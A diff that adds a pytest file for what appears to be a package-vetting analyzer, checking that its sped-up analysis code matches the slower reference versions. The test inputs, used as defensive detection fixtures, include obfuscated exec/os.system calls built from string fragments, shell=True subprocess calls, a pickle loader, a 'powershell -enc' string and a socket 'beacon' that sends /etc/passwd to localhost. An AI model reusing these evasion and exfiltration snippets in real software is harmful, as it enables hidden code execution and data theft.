@@ -1,0 +1,305 @@
+"""The speed-ups of the source analysis answer exactly what the slower code answered.
+
+Each fast path is checked against the straightforward version it replaced (kept here as the
+reference): the line scanner of the package graph, the odd-shape screen, the remembered
+answers of `Collector.qualify`, the visitor's dispatch, the file-name index, and the syntax
+tree that the carried-payload analyzer now borrows from the source analysis. No timings:
+speed is measured by `python -m bench.slowest` and `make bench`.
+"""
+
+from __future__ import annotations
+
+import ast
+import random
+import re
+from pathlib import Path
+
+import pytest
+
+from builders import make_sdist, make_wheel
+from pkgvet.analysis import facts as facts_module
+from pkgvet.analysis.facts import Collector, FileFacts, ast_facts, graph_facts
+from pkgvet.analysis.parse import parsed, shared_tree
+from pkgvet.analysis.prefilter import has_ingredient, needs_full_pass, odd_shape
+from pkgvet.analysis.reachability import _files_named, module_names, reach
+from pkgvet.analysis.scan import analyze_package
+from pkgvet.analyzer._carried_loads import scan_file
+from pkgvet.package import load
+from pkgvet.sources.local import local_artifact
+
+# -- references: the code before the speed-ups ------------------------------------------------
+
+
+def _line_state_reference(line: str, state: tuple[int, str]) -> tuple[int, str, str]:
+    depth, quote = state
+    code: list[str] = []
+    if quote == "\\":
+        quote = ""
+    i, n = 0, len(line)
+    while i < n:
+        if quote:
+            end = line.find(quote, i)
+            if end < 0:
+                return depth, quote, "".join(code)
+            i, quote = end + 3, ""
+            code.append('""')
+            continue
+        c = line[i]
+        if c == "#":
+            break
+        if c in "\"'":
+            if line.startswith(c * 3, i):
+                quote = c * 3
+                i += 3
+                continue
+            j = i + 1
+            while j < n and line[j] != c:
+                j += 2 if line[j] == "\\" else 1
+            i = j + 1
+            code.append('""')
+            continue
+        code.append(c)
+        if c in "([{":
+            depth += 1
+        elif c in ")]}":
+            depth = max(0, depth - 1)
+        i += 1
+    if line.rstrip().endswith("\\") and not quote:
+        return max(depth, 0), "\\", "".join(code)
+    return depth, quote, "".join(code)
+
+
+_ODD_REFERENCE = re.compile(r"[(\[{]{32}|(?:[^\n]{4096})")
+
+
+def _files_named_reference(relpaths: list[str], path: str) -> list[str]:
+    path = path.replace("\\", "/").lstrip("./")
+    if not path or len(path) > 500:
+        return []
+    hits = [rel for rel in relpaths if rel == path or rel.endswith("/" + path)]
+    if hits:
+        return hits[:4]
+    name = path.rsplit("/", 1)[-1]
+    if "." not in name:
+        return []
+    return [rel for rel in relpaths if rel.rsplit("/", 1)[-1] == name][:2]
+
+
+def _canon(ff: FileFacts) -> object:
+    return (ff.facts, sorted((k, sorted(v)) for k, v in ff.calls.items()),
+            sorted(ff.functions.items()), sorted(ff.classes.items()), ff.embedded,
+            ff.decoded_code, ff.imports, sorted((k, sorted(v)) for k, v in
+                                               ff.qualified_calls.items()),
+            ff.opened, ff.patches)
+
+
+# Sources that lean on name resolution: alias chains longer than the depth limit, clients,
+# dynamic imports, getattr of folded names, namespaces, comprehension folds, tricks.
+_ALIAS_CHAIN = "import os\na0 = os.system\n" + "".join(
+    f"a{i} = a{i - 1}\n" for i in range(1, 14)) + "".join(f"a{i}('id')\n" for i in range(14))
+_CALL_CHAIN = "import requests\ns0 = requests.Session()\n" + "".join(
+    f"s{i} = s{i - 1}.child()\n" for i in range(1, 12)) + "".join(
+    f"s{i}.post('https://x.invalid', data=1)\n" for i in range(12))
+CHAINS = [
+    src
+    for k in range(1, 12)
+    for src in (
+        # each link asks for the previous one's callee at two depths: the limit decides
+        "import requests\ns0 = requests.Session\n" + "".join(
+            f"s{i} = s{i - 1}()\n" for i in range(1, k)) + f"s{k - 1}.post('u', data=1)\n",
+        "import requests\nc0 = requests.Session()\n" + "".join(
+            f"c{i} = c{i - 1}.get\n" for i in range(1, k)) + f"c{k - 1}('u')\n",
+        "import os\nm0 = __import__('o' + 's')\n" + "".join(
+            f"m{i} = getattr(m{i - 1}, 'path')\n" for i in range(1, k)) + f"m{k - 1}.system('id')\n",
+    )
+]
+RESOLVING_SOURCES = [
+    *CHAINS,
+    _ALIAS_CHAIN,
+    _CALL_CHAIN,
+    "import builtins, codecs\ne = getattr(builtins, 'ex' + 'ec')\n"
+    "e(codecs.decode('cevag(1)', 'rot13'))\n",
+    "m = __import__(chr(111) + chr(115))\nf = getattr(m, 'sy' + 'stem')\nf('id')\n",
+    "import importlib\nmod = importlib.import_module(''.join(['o', 's']))\n"
+    "run = getattr(mod, 'po' + 'pen')\nrun('id')\n",
+    "import builtins\nns = vars(builtins)\nx = ns['ex' + 'ec']\nx('print(1)')\n"
+    "y = __builtins__.__dict__['ev' + 'al']\ny('1')\n"
+    "z = globals()['__builtins__']['ex' + 'ec']\nz('1')\n",
+    "import subprocess as sp\nnames = [c for c in 'ab']\n"
+    "cmd = ''.join([chr(x) for x in [105, 100]])\nsp.call(cmd, shell=True)\n",
+    "import os\ndef f():\n    g = os.system\n    h = g\n    return h('id')\n"
+    "class C:\n    def m(self):\n        k = self.run\n        return k()\n",
+    "a = b.c()\nb = a.d()\na.e()\nb.f()\n",
+    "import socket\ndef beacon():\n    s = socket.socket()\n    t = s\n"
+    "    t.connect(('127.0.0.1', 9))\n    t.send(open('/etc/passwd').read().encode())\n",
+]
+
+
+def _without_memo(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Collector.qualify and the visitor as they were: every name computed afresh, every
+    node dispatched by `ast.NodeVisitor`."""
+
+    def qualify(self: Collector, node: ast.expr, depth: int = 0) -> str | None:
+        return self._qualify(node, depth)
+
+    def generic_visit(self: Collector, node: ast.AST) -> None:
+        if isinstance(node, ast.Call):
+            self.all_calls.append((node, self.scope))
+        ast.NodeVisitor.generic_visit(self, node)
+
+    monkeypatch.setattr(Collector, "qualify", qualify)
+    monkeypatch.setattr(Collector, "visit", ast.NodeVisitor.visit)
+    monkeypatch.setattr(Collector, "generic_visit", generic_visit)
+
+
+@pytest.mark.parametrize("source", RESOLVING_SOURCES)
+def test_remembered_names_change_no_fact(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    fast = _canon(ast_facts(ast.parse(source)))
+    with monkeypatch.context() as m:
+        _without_memo(m)
+        slow = _canon(ast_facts(ast.parse(source)))
+    assert fast == slow
+
+
+def test_remembered_names_on_real_modules(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The standard library's larger modules: many aliases, classes, closures."""
+    import json
+    import logging
+    import subprocess
+    import tarfile
+
+    sources = [Path(m.__file__).read_text(encoding="utf-8")  # type: ignore[arg-type]
+               for m in (subprocess, tarfile, logging, json)]
+    fast = [_canon(ast_facts(ast.parse(s))) for s in sources]
+    with monkeypatch.context() as m:
+        _without_memo(m)
+        slow = [_canon(ast_facts(ast.parse(s))) for s in sources]
+    assert fast == slow
+
+
+def test_alias_chains_still_stop_at_the_depth_limit() -> None:
+    ff = ast_facts(ast.parse(_ALIAS_CHAIN))
+    proc_lines = sorted({f.line for f in ff.facts if f.cap == "process"})
+    assert proc_lines  # the first links resolve to os.system
+    assert max(proc_lines) < _ALIAS_CHAIN.count("\n")  # the last ones are past the limit
+
+
+def _deepest_collected() -> int:
+    """The smallest nesting (`x = - - ... 1`) at which collecting facts runs out of stack."""
+    low, high = 10, 3000
+    while low < high:
+        mid = (low + high) // 2
+        try:
+            ast_facts(ast.parse("x = " + "-" * mid + "1\n"))
+        except RecursionError:
+            high = mid
+        else:
+            low = mid + 1
+    return low
+
+
+def test_visitor_dispatch_keeps_the_stack_depth(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A file nested deeper than the stack allows falls back to the text scan where it did:
+    the fast dispatch uses as many frames per level as `ast.NodeVisitor` did."""
+    fast = _deepest_collected()
+    with monkeypatch.context() as m:
+        _without_memo(m)
+        slow = _deepest_collected()
+    assert fast == slow < 3000
+
+
+def test_line_scanner_matches_the_character_loop() -> None:
+    rnd = random.Random(11)
+    alphabet = "ab #\"'()[]{}\\ \t."
+    states = [(0, ""), (2, ""), (0, "\\"), (1, '"""'), (0, "'''")]
+    for _ in range(20_000):
+        line = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 24)))
+        state = rnd.choice(states)
+        assert facts_module._line_state(line, state) == _line_state_reference(line, state)
+    for module in (re, random, ast):
+        text = Path(module.__file__).read_text(encoding="utf-8")  # type: ignore[arg-type]
+        fast = slow = (0, "")
+        for line in text.splitlines():
+            a, b = facts_module._line_state(line, fast), _line_state_reference(line, slow)
+            assert a == b
+            fast, slow = a[:2], b[:2]
+
+
+def test_odd_shape_matches_the_pattern() -> None:
+    rnd = random.Random(5)
+    pieces = ["\n", "\r", "x" * 4095, "x" * 4096, "(" * 31, "(" * 32, "[{(" * 11, "ab", ""]
+    for _ in range(2_000):
+        text = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 5)))
+        assert odd_shape(text) == bool(_ODD_REFERENCE.search(text)), repr(text[:40])
+
+
+def test_ingredient_screen_unchanged_by_shared_groups() -> None:
+    assert has_ingredient("import socket\n")
+    assert not has_ingredient("import json\nx = json.dumps({})\n")
+    assert needs_full_pass("import requests\nimport subprocess\n")
+    assert not needs_full_pass("import requests\n")
+    assert needs_full_pass("x = 'powershell -enc'\n", strong_only=True)
+
+
+def test_graph_scan_reads_imports_calls_and_opened_files() -> None:
+    ff = graph_facts("from .util import helper\nimport pkg.mod as m\n"
+                     "def f():\n    helper('a')\n    m.run(\n        1)\n"
+                     "exec(open('tests/x.py').read())  # )\n")
+    assert ("<module>", ".util.helper", 0) in ff.imports
+    assert ff.qualified_calls["f"] == {".util.helper", "pkg.mod.run"}
+    assert ff.opened == [("<module>", "tests/x.py", 0)]
+
+
+def test_file_name_index_matches_the_scan(tmp_path: Path) -> None:
+    files = {
+        "setup.py": "", "tests/helper.py": "", "pkg/tests/helper.py": "",
+        "pkg/__init__.py": "", "pkg/data/blob.bin": "x", "docs/conf.py": "",
+        "a/b/c/helper.py": "", "conf.py": "",
+    }
+    pkg = load(local_artifact(make_sdist(tmp_path, "names", "1.0", files)))
+    relpaths = list(pkg.by_relpath)
+    for path in ("helper.py", "tests/helper.py", "./tests/helper.py", "b/c/helper.py",
+                 "conf.py", "docs/conf.py", "blob.bin", "data/blob.bin", "missing.py",
+                 "nodot", "", "x/", "..\\tests\\helper.py"):
+        assert _files_named(pkg, path, "setup.py") == _files_named_reference(relpaths, path)
+
+
+def test_module_names_are_remembered_as_copies() -> None:
+    first = module_names("src/pkg/mod.py")
+    first.append("mutated")
+    assert module_names("src/pkg/mod.py") == ["src.pkg.mod", "pkg.mod"]
+    assert module_names("pkg/data.bin") == []
+
+
+def test_carried_scan_reads_the_shared_tree(tmp_path: Path) -> None:
+    loader = ("import pickle, os\n"
+              "HERE = os.path.dirname(__file__)\n"
+              "with open(os.path.join(HERE, 'model.pkl'), 'rb') as fh:\n"
+              "    MODEL = pickle.load(fh)\n")
+    wheel = make_wheel(tmp_path, "sharedtree", "1.0", {
+        "sharedtree/__init__.py": loader, "sharedtree/model.pkl": b"\x80\x04N.",
+    })
+    pkg = load(local_artifact(wheel))
+    reach(pkg)
+    f = pkg.get("sharedtree/__init__.py")
+    assert f is not None and parsed(pkg, f) is not None
+    tree = shared_tree(pkg, f)
+    assert tree is not None
+    text = f.text() or ""
+    assert scan_file(text, f.relpath, tree) == scan_file(text, f.relpath)
+    assert scan_file(text, f.relpath)[0]  # the load is found
+
+
+def test_shimmed_trees_are_not_shared(tmp_path: Path) -> None:
+    """A file only the 3.12 shim parses is no tree for the other analyzers: they parse
+    the text themselves, as before, and find it does not parse."""
+    wheel = make_wheel(tmp_path, "newsyntax", "1.0", {
+        "newsyntax/__init__.py": "import socket\ntype Alias = int\n",
+    })
+    pkg = load(local_artifact(wheel))
+    analyze_package(pkg)
+    f = pkg.get("newsyntax/__init__.py")
+    assert f is not None
+    found = parsed(pkg, f)
+    assert found is not None and found.tree is not None
+    assert shared_tree(pkg, f) is None
